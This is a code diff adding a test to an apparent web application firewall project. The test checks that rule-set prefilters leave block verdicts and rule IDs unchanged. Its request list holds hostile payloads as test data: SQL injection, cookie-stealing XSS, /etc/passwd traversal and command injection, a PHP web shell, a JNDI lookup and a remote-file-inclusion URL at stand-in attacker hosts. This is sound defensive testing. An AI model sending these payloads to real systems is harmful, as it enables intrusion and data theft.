@@ -287,3 +287,45 @@ TEST_F(CrsTest, LoadsAndBlocksSqlInjectionButNotBenignTraffic) {
 
 }  // namespace
 }  // namespace rampart::seclang
+
+namespace rampart::seclang {
+namespace {
+
+TEST_F(CrsTest, PrefilterChangesNoVerdictAndNoRuleId) {
+  if (!crs_) GTEST_SKIP() << "the CRS is not installed";
+  std::vector<Request> requests;
+  const char* targets[] = {
+      "/products?q=blue+suede+shoes&page=2",
+      "/s?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+      "/c?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+      "/d?file=../../../../etc/passwd",
+      "/r?cmd=%3Bcat%20/etc/passwd",
+      "/p?x=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E",
+      "/j?x=%24%7Bjndi%3Aldap%3A//evil/a%7D",
+      "/n?x=require(%27child_process%27).exec(%27id%27)",
+      "/i?url=http://evil.example/shell.txt?",
+      "/ok?name=O%27Neil&note=it%27s+fine",
+  };
+  for (const char* t : targets) {
+    Request r;
+    r.uri = t;
+    r.headers.push_back({"Accept", "text/html"});
+    r.headers.push_back({"Cookie", "sid=abc123; theme=dark"});
+    requests.push_back(r);
+  }
+  std::vector<Outcome> before;
+  for (const auto& r : requests) before.push_back(run(*crs_, r));
+  ASSERT_EQ(crs_->prefilters(), nullptr);
+  crs_->build_prefilters();
+  ASSERT_NE(crs_->prefilters(), nullptr);
+  EXPECT_GT(crs_->prefilter_pattern_count(), 200u);
+  for (size_t i = 0; i < requests.size(); ++i) {
+    Outcome after = run(*crs_, requests[i]);
+    EXPECT_EQ(after.intervention.disruptive, before[i].intervention.disruptive) << targets[i];
+    EXPECT_EQ(after.ids, before[i].ids) << targets[i];
+  }
+  EXPECT_TRUE(before[1].intervention.disruptive);  // the list does hold attacks
+}
+
+}  // namespace
+}  // namespace rampart::seclang
